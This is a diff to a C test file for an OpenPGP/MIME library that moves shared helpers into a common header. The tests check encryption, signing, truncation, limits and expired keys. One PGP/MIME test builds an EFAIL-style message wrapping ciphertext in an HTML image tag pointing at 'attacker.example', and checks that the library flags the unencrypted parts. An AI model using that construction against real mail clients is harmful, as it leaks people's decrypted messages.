@@ -10,83 +10,29 @@
 #include <string.h>
 #include <unistd.h>
 
+#include "ops-common.h"
 #include "sealgate/error.h"
 #include "sealgate/mime-pgp.h"
 #include "sealgate/pgp.h"
 #include "sealgate/stream.h"
 #include "sg-test.h"
 
-static char fx[512], home[600], pass[128];
-
-static const char *path(const char *name) {
-        static char buf[4][600];
-        static int i;
-        i = (i + 1) % 4;
-        snprintf(buf[i], sizeof buf[i], "%s/%s", fx, name);
-        return buf[i];
-}
-
-static char *slurp(const char *name, size_t *len) {
-        FILE *f = fopen(path(name), "rb");
-        char *d = f ? malloc(1 << 20) : NULL;
-        size_t n = d ? fread(d, 1, (1 << 20) - 1, f) : 0;
-        if (f)
-                fclose(f);
-        if (d)
-                d[n] = '\0';
-        if (len)
-                *len = n;
-        return d;
-}
+static char home[600];
 
 static char *fpr(const char *name) {
         char file[64];
         snprintf(file, sizeof file, "%s.fpr", name);
-        char *s = slurp(file, NULL);
+        char *s = ops_slurp(file, NULL);
         if (s)
                 s[strcspn(s, "\n")] = '\0';
         return s;
 }
 
-typedef struct membuf {
-        unsigned char *data;
-        size_t len, cap;
-} membuf;
-
-static int mem_write(void *ctx, const void *p, size_t n) {
-        membuf *m = ctx;
-        if (m->len + n + 1 > m->cap) { /* + 1: always NUL-terminated, for strstr */
-                size_t cap = m->cap ? m->cap * 2 : 4096;
-                while (cap < m->len + n + 1)
-                        cap *= 2;
-                unsigned char *d = realloc(m->data, cap);
-                if (!d)
-                        return -1;
-                m->data = d;
-                m->cap = cap;
-        }
-        memcpy(m->data + m->len, p, n);
-        m->len += n;
-        m->data[m->len] = '\0';
-        return 0;
-}
-
-static sg_sink sink(membuf *m) {
-        m->len = 0;
-        return (sg_sink){.write = mem_write, .ctx = m};
-}
-
-static const char content[] = "Content-Type: text/plain\r\n\r\nHello Bob,\r\nthe figures.\r\n";
-
-static bool same(const membuf *m) {
-        return m->len == strlen(content) && memcmp(m->data, content, m->len) == 0;
-}
-
 static sg_err encrypt(const char *to, const char *signer, unsigned flags, membuf *out, sg_error *e) {
-        sg_pgp_keyring kr = {.homedir = home, .passphrase = pass};
+        sg_pgp_keyring kr = {.homedir = home, .passphrase = ops_pass};
         sg_mem_source ms;
-        sg_source in = sg_source_mem(&ms, content, strlen(content));
-        sg_sink s = sink(out);
+        sg_source in = sg_source_mem(&ms, ops_content, strlen(ops_content));
+        sg_sink s = membuf_sink(out);
         const char *r[] = {to};
         return sg_pgp_gpgme()->encrypt(&kr, r, 1, signer, flags, &in, &s, e);
 }
@@ -96,7 +42,7 @@ static sg_err decrypt(const char *passphrase, const void *data, size_t len, size
         sg_pgp_keyring kr = {.homedir = home, .passphrase = passphrase};
         sg_mem_source ms;
         sg_source in = sg_source_mem(&ms, data, len);
-        sg_sink s = sink(out);
+        sg_sink s = membuf_sink(out);
         return sg_pgp_gpgme()->decrypt(&kr, max, from, &in, &s, res, e);
 }
 
@@ -122,28 +68,15 @@ static bool file_to(int fd, membuf *m) {
         if (lseek(fd, 0, SEEK_SET) != 0)
                 return false;
         while ((k = read(fd, b, sizeof b)) > 0)
-                if (mem_write(m, b, (size_t) k) < 0)
+                if (membuf_write(m, b, (size_t) k) < 0)
                         return false;
         return k == 0;
 }
 
 int main(int argc, char **argv) {
-        if (argc < 2) {
-                fprintf(stderr, "usage: test-pgp-ops MAKE_PGP_FIXTURES\n");
-                return 2;
-        }
-        snprintf(fx, sizeof fx, "%s", "/tmp/sealgate-pgp-ops-XXXXXX");
-        if (!mkdtemp(fx))
-                return 1;
-        snprintf(home, sizeof home, "%s/home", fx);
-        char cmd[1400];
-        snprintf(cmd, sizeof cmd, "sh '%s' '%s' >/dev/null 2>&1", argv[1], fx);
-        if (!SG_CHECK(system(cmd) == 0, "fixtures made"))
+        if (!SG_CHECK(ops_start(argc, argv, "test-pgp-ops MAKE_PGP_FIXTURES", "pgp-ops", true, NULL), "fixtures made"))
                 return sg_test_done();
-        char *p = slurp("PASSPHRASE", NULL);
-        snprintf(pass, sizeof pass, "%s", p ? p : "");
-        pass[strcspn(pass, "\n")] = '\0';
-        free(p);
+        snprintf(home, sizeof home, "%s/home", ops_fx);
         const sg_pgp_ops *ops = sg_pgp_gpgme();
         membuf enc = {0}, out = {0};
         sg_error e = {0};
@@ -157,15 +90,15 @@ int main(int argc, char **argv) {
         for (size_t i = 0; i < 4; i++) {
                 sg_err r = encrypt(to[i], NULL, i % 2 ? 0 : SG_PGP_ARMOR, &enc, &e);
                 sg_err d = r == SG_OK ? decrypt(NULL, enc.data, enc.len, 0, NULL, &out, &res, &e) : r;
-                if (!SG_CHECK(r == SG_OK && d == SG_OK && same(&out) && !res, "round trip %s (%s)", what[i],
-                              i % 2 ? "binary" : "armored"))
+                if (!SG_CHECK(r == SG_OK && d == SG_OK && membuf_is_content(&out) && !res, "round trip %s (%s)",
+                              what[i], i % 2 ? "binary" : "armored"))
                         sg_test_diag("  %s: %s", sg_err_code(d), e.message);
         }
 
         /* encrypt and sign: the signature inside is reported */
         sg_err r = encrypt("bob@partner.example", "alice@corp.example", SG_PGP_ARMOR, &enc, &e);
         sg_err d = r == SG_OK ? decrypt(NULL, enc.data, enc.len, 0, "alice@corp.example", &out, &res, &e) : r;
-        if (!SG_CHECK(d == SG_OK && same(&out) && res && res->valid && res->n_signers == 1 &&
+        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out) && res && res->valid && res->n_signers == 1 &&
                               res->signers[0].email_matches && res->signers[0].key_trusted &&
                               strcmp(res->signers[0].primary_fingerprint, alice) == 0,
                       "encrypt+sign (Ed25519 signer, RSA recipient): decrypted, signature valid, signer alice"))
@@ -178,21 +111,21 @@ int main(int argc, char **argv) {
                  "wrong passphrase: wrong_passphrase (%s)", e.message);
         SG_CHECK(decrypt(NULL, enc.data, enc.len, 0, NULL, &out, NULL, &e) == SG_ERR_WRONG_PASSPHRASE,
                  "no passphrase: wrong_passphrase (%s)", e.message);
-        d = decrypt(pass, enc.data, enc.len, 0, NULL, &out, NULL, &e);
-        if (!SG_CHECK(d == SG_OK && same(&out), "right passphrase: decrypted"))
+        d = decrypt(ops_pass, enc.data, enc.len, 0, NULL, &out, NULL, &e);
+        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out), "right passphrase: decrypted"))
                 sg_test_diag("  %s: %s", sg_err_code(d), e.message);
 
         /* refusals */
         size_t len;
-        char *nomdc = slurp("nomdc.asc", &len);
+        char *nomdc = ops_slurp("nomdc.asc", &len);
         d = decrypt(NULL, nomdc, len, 0, NULL, &out, NULL, &e);
         SG_CHECK(d == SG_ERR_NO_INTEGRITY, "no MDC (gpg --rfc2440, CAST5): no_integrity (%s: %s)", sg_err_code(d),
                  e.message);
         free(nomdc);
-        char *dave = slurp("to-dave.asc", &len);
+        char *dave = ops_slurp("to-dave.asc", &len);
         d = decrypt(NULL, dave, len, 0, NULL, &out, NULL, &e);
         SG_CHECK(d == SG_ERR_NO_PRIVATE_KEY, "encrypted to someone else: no_private_key (%s)", sg_err_code(d));
-        d = decrypt(NULL, content, strlen(content), 0, NULL, &out, NULL, &e);
+        d = decrypt(NULL, ops_content, strlen(ops_content), 0, NULL, &out, NULL, &e);
         SG_CHECK(d == SG_ERR_NOT_PGP, "not OpenPGP: not_pgp (%s)", sg_err_code(d));
         d = decrypt(NULL, "", 0, 0, NULL, &out, NULL, &e);
         SG_CHECK(d == SG_ERR_NOT_PGP, "empty: not_pgp (%s)", sg_err_code(d));
@@ -221,7 +154,7 @@ int main(int argc, char **argv) {
                 for (size_t n = 1; n < enc.len; n += step) {
                         d = decrypt(NULL, enc.data, n, 0, NULL, &out, NULL, &e);
                         /* gpg reads a message whose armor lost only its last line or checksum */
-                        if (d == SG_OK && same(&out))
+                        if (d == SG_OK && membuf_is_content(&out))
                                 continue;
                         if (d != SG_ERR_TRUNCATED && d != SG_ERR_NOT_PGP && !bad++) {
                                 first_bad = n;
@@ -243,7 +176,7 @@ int main(int argc, char **argv) {
         enc.data[enc.len - 5] ^= 0x5A;
 
         /* limits one past */
-        SG_CHECK(decrypt(NULL, enc.data, enc.len, enc.len, NULL, &out, NULL, &e) == SG_OK && same(&out),
+        SG_CHECK(decrypt(NULL, enc.data, enc.len, enc.len, NULL, &out, NULL, &e) == SG_OK && membuf_is_content(&out),
                  "max_input equal to the size: decrypted");
         SG_CHECK(decrypt(NULL, enc.data, enc.len, enc.len - 1, NULL, &out, NULL, &e) == SG_ERR_LIMIT,
                  "max_input one less than the size: limit_exceeded");
@@ -252,13 +185,13 @@ int main(int argc, char **argv) {
                 many[i] = "alice@corp.example";
         sg_pgp_keyring kr = {.homedir = home};
         sg_mem_source ms;
-        sg_source in = sg_source_mem(&ms, content, strlen(content));
-        sg_sink s = sink(&out);
+        sg_source in = sg_source_mem(&ms, ops_content, strlen(ops_content));
+        sg_sink s = membuf_sink(&out);
         SG_CHECK(ops->encrypt(&kr, many, SG_PGP_RECIPIENTS_MAX + 1, NULL, 0, &in, &s, &e) == SG_ERR_LIMIT,
                  "%d recipients: limit_exceeded", SG_PGP_RECIPIENTS_MAX + 1);
         free(many);
         unsigned char *big = calloc(1, SG_PGP_SIGNATURE_MAX + 1);
-        in = sg_source_mem(&ms, content, strlen(content));
+        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
         SG_CHECK(big && ops->verify(&kr, big, SG_PGP_SIGNATURE_MAX + 1, &in, NULL, &res, &e) == SG_ERR_LIMIT && !res,
                  "a signature of %d bytes: limit_exceeded", SG_PGP_SIGNATURE_MAX + 1);
         free(big);
@@ -267,13 +200,14 @@ int main(int argc, char **argv) {
         membuf sig = {0}, copy = {0};
         const char *signers[] = {"alice@corp.example", "bob@partner.example"};
         for (size_t i = 0; i < 2; i++) {
-                sg_sink sigs = sink(&sig), cs = sink(&copy);
+                sg_sink sigs = membuf_sink(&sig), cs = membuf_sink(&copy);
                 const char *digest = NULL;
-                in = sg_source_mem(&ms, content, strlen(content));
+                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                 r = ops->sign(&kr, signers[i], SG_PGP_ARMOR, &in, &cs, &sigs, &digest, &e);
-                SG_CHECK(r == SG_OK && copy.len == strlen(content) && digest, "sign with %s (%s): content copied, %s",
-                         i ? "RSA 3072" : "Ed25519", signers[i], digest ? digest : "?");
-                in = sg_source_mem(&ms, content, strlen(content));
+                SG_CHECK(r == SG_OK && copy.len == strlen(ops_content) && digest,
+                         "sign with %s (%s): content copied, %s", i ? "RSA 3072" : "Ed25519", signers[i],
+                         digest ? digest : "?");
+                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                 r = ops->verify(&kr, sig.data, sig.len, &in, i ? "BOB@partner.example" : "alice@corp.example", &res,
                                 &e);
                 SG_CHECK(r == SG_OK && res && res->valid && res->signers[0].email_matches &&
@@ -282,12 +216,12 @@ int main(int argc, char **argv) {
                          "verify: valid, email matches (case-insensitively), signing time, usage");
                 res = sg_pgp_verify_result_free(res);
         }
-        in = sg_source_mem(&ms, content, strlen(content) - 1);
+        in = sg_source_mem(&ms, ops_content, strlen(ops_content) - 1);
         r = ops->verify(&kr, sig.data, sig.len, &in, NULL, &res, &e);
         SG_CHECK(r == SG_OK && res && !res->valid && !res->signers[0].signature_valid && !res->signers[0].email_checked,
                  "verify of other content: signature invalid");
         res = sg_pgp_verify_result_free(res);
-        in = sg_source_mem(&ms, content, strlen(content));
+        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
         r = ops->verify(&kr, sig.data, sig.len, &in, "mallory@other.example", &res, &e);
         SG_CHECK(r == SG_OK && res && !res->valid && res->signers[0].signature_valid && res->signers[0].email_checked &&
                          !res->signers[0].email_matches,
@@ -295,20 +229,20 @@ int main(int argc, char **argv) {
         res = sg_pgp_verify_result_free(res);
         size_t accepted = 0;
         /* cut inside the base64 (before the checksum line): never accepted */
-        mem_write(&sig, "", 1);
+        membuf_write(&sig, "", 1);
         sig.len--;
         const char *crc = strstr((const char *) sig.data, "\n=");
         size_t body_end = crc ? (size_t) (crc - (const char *) sig.data) - 4 : sig.len;
         for (size_t n = 0; n < body_end; n += 11) {
-                in = sg_source_mem(&ms, content, strlen(content));
+                in = sg_source_mem(&ms, ops_content, strlen(ops_content));
                 r = ops->verify(&kr, sig.data, n, &in, NULL, &res, &e);
                 accepted += r == SG_OK && res->valid;
                 res = sg_pgp_verify_result_free(res);
         }
         SG_CHECK(accepted == 0, "no truncation of the signature is accepted");
-        char *oldsig = slurp("old-content.sig", &len);
+        char *oldsig = ops_slurp("old-content.sig", &len);
         size_t olen;
-        char *oldc = slurp("old-content.txt", &olen);
+        char *oldc = ops_slurp("old-content.txt", &olen);
         in = sg_source_mem(&ms, oldc, olen);
         r = ops->verify(&kr, oldsig, len, &in, "old@corp.example", &res, &e);
         SG_CHECK(r == SG_OK && res && !res->valid && res->signers[0].signature_valid &&
@@ -316,9 +250,9 @@ int main(int argc, char **argv) {
                  "signed by a key now expired: signature valid, key not valid now, not valid");
         res = sg_pgp_verify_result_free(res);
         free(oldsig);
-        char *opaque = slurp("old-signed.asc", &len);
+        char *opaque = ops_slurp("old-signed.asc", &len);
         in = sg_source_mem(&ms, opaque, len);
-        s = sink(&out);
+        s = membuf_sink(&out);
         r = ops->verify_opaque(&kr, &in, "old@corp.example", &s, &res, &e);
         SG_CHECK(r == SG_OK && res && !res->valid && out.len == 0,
                  "opaque signature by an expired key: not valid, no content written");
@@ -328,15 +262,15 @@ int main(int argc, char **argv) {
 
         /* PGP/MIME: build, take apart, and the EFAIL case */
         sg_mime_pgp_init();
-        in = sg_source_mem(&ms, content, strlen(content));
-        s = sink(&enc);
+        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
+        s = membuf_sink(&enc);
         const char *rcpt[] = {"alice@corp.example"};
         r = sg_mime_pgp_encrypt(ops, &kr, rcpt, 1, "bob@partner.example", 0, &in, &s, &e);
         int fd = tmp_with(enc.data, enc.len);
         sg_mime_pgp_info info = {0};
-        s = sink(&out);
+        s = membuf_sink(&out);
         d = r == SG_OK ? sg_mime_pgp_decrypt(ops, &kr, 0, fd, "bob@partner.example", &s, &info, &e) : r;
-        if (!SG_CHECK(d == SG_OK && same(&out) && info.encrypted && info.is_signed && info.verify &&
+        if (!SG_CHECK(d == SG_OK && membuf_is_content(&out) && info.encrypted && info.is_signed && info.verify &&
                               info.verify->valid && !info.unencrypted_parts,
                       "PGP/MIME encrypt+sign, then decrypt: the entity, signed and encrypted"))
                 sg_test_diag("  %s: %s", sg_err_code(d), e.message);
@@ -347,27 +281,28 @@ int main(int argc, char **argv) {
                            "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\n"
                            "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--outer\r\n";
         membuf efail = {0};
-        mem_write(&efail, head, strlen(head));
-        mem_write(&efail, enc.data, enc.len);
+        membuf_write(&efail, head, strlen(head));
+        membuf_write(&efail, enc.data, enc.len);
         const char *tail = "\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n";
-        mem_write(&efail, tail, strlen(tail));
+        membuf_write(&efail, tail, strlen(tail));
         fd = tmp_with(efail.data, efail.len);
-        s = sink(&out);
+        s = membuf_sink(&out);
         d = sg_mime_pgp_decrypt(ops, &kr, 0, fd, NULL, &s, &info, &e);
-        SG_CHECK(d == SG_OK && same(&out) && info.encrypted && info.unencrypted_parts && info.from &&
+        SG_CHECK(d == SG_OK && membuf_is_content(&out) && info.encrypted && info.unencrypted_parts && info.from &&
                          strcmp(info.from, "bob@partner.example") == 0,
                  "encrypted part between clear parts: only the encrypted content, unencrypted_parts reported");
         sg_mime_pgp_info_clear(&info);
         close(fd);
         free(efail.data);
-        in = sg_source_mem(&ms, content, strlen(content));
-        s = sink(&enc);
+        in = sg_source_mem(&ms, ops_content, strlen(ops_content));
+        s = membuf_sink(&enc);
         r = sg_mime_pgp_sign(ops, &kr, "alice@corp.example", &in, &s, &e);
         fd = tmp_with(enc.data, enc.len);
         char *from = NULL;
-        s = sink(&out);
+        s = membuf_sink(&out);
         d = r == SG_OK ? sg_mime_pgp_verify(ops, &kr, fd, "alice@corp.example", &s, &from, &res, &e) : r;
-        SG_CHECK(d == SG_OK && res && res->valid && same(&out) && from, "PGP/MIME sign, then verify: valid, content");
+        SG_CHECK(d == SG_OK && res && res->valid && membuf_is_content(&out) && from,
+                 "PGP/MIME sign, then verify: valid, content");
         res = sg_pgp_verify_result_free(res);
         free(from);
         from = NULL;
@@ -388,9 +323,9 @@ int main(int argc, char **argv) {
         static const char *const senders[] = {"Alice <alice@corp.example>", "mallory@other.example"};
         for (size_t i = 0; i < 2; i++) {
                 char entity[256];
-                snprintf(entity, sizeof entity, "From: %s\r\nSubject: figures\r\n%s", senders[i], content);
+                snprintf(entity, sizeof entity, "From: %s\r\nSubject: figures\r\n%s", senders[i], ops_content);
                 in = sg_source_mem(&ms, entity, strlen(entity));
-                s = sink(&enc);
+                s = membuf_sink(&enc);
                 r = sg_mime_pgp_sign(ops, &kr, "alice@corp.example", &in, &s, &e);
                 fd = tmp_with(enc.data, enc.len);
                 from = NULL;
@@ -413,7 +348,7 @@ int main(int argc, char **argv) {
                 const char *to_alice[] = {"alice@corp.example"};
                 sg_mem_source empty;
                 sg_source msrc = sg_source_mem(&empty, "", 0);
-                int fin = tmp_with(content, strlen(content)), fct = tmp_with("", 0);
+                int fin = tmp_with(ops_content, strlen(ops_content)), fct = tmp_with("", 0);
                 sg_source fs = sg_source_fd(fin);
                 sg_sink fo = sg_sink_fd(fct);
                 SG_CHECK(sg_source_get_fd(&fs) == fin && sg_sink_get_fd(&fo) == fct && sg_source_get_fd(&msrc) == -1,
@@ -423,8 +358,8 @@ int main(int argc, char **argv) {
                          sg_err_code(r));
                 /* the ciphertext after 7 bytes of something else, read from offset 7 */
                 membuf pre = {0};
-                mem_write(&pre, "garbage", 7);
-                mem_write(&pre, enc.data, enc.len);
+                membuf_write(&pre, "garbage", 7);
+                membuf_write(&pre, enc.data, enc.len);
                 int fc = tmp_with(pre.data, pre.len);
                 for (int k = 0; k < 3; k++) {
                         size_t max = k == 0 ? 0 : k == 1 ? enc.len : enc.len - 1;
@@ -435,7 +370,7 @@ int main(int argc, char **argv) {
                         d = ops->decrypt(&kf, max, NULL, &cs, &ps, NULL, &e);
                         bool got = file_to(fpt, &out);
                         if (k < 2)
-                                SG_CHECK(d == SG_OK && got && same(&out),
+                                SG_CHECK(d == SG_OK && got && membuf_is_content(&out),
                                          "file to file from offset 7, max_input %s: decrypted (%s)",
                                          k ? "equal to the size" : "default", sg_err_code(d));
                         else
@@ -445,7 +380,7 @@ int main(int argc, char **argv) {
                                          sg_err_code(d));
                         close(fpt);
                 }
-                char *nm = slurp("nomdc.asc", &len);
+                char *nm = ops_slurp("nomdc.asc", &len);
                 int fn = tmp_with(nm, len), fpt = tmp_with("", 0);
                 sg_source ns = sg_source_fd(fn);
                 sg_sink ps = sg_sink_fd(fpt);
@@ -469,8 +404,6 @@ int main(int argc, char **argv) {
         free(alice);
         free(bob);
         free(old);
-        snprintf(cmd, sizeof cmd, "gpgconf --homedir '%s' --kill gpg-agent >/dev/null 2>&1; rm -rf '%s'", home, fx);
-        if (system(cmd) != 0)
-                sg_test_diag("cannot remove %s", fx);
+        ops_cleanup(home);
         return sg_test_done();
 }
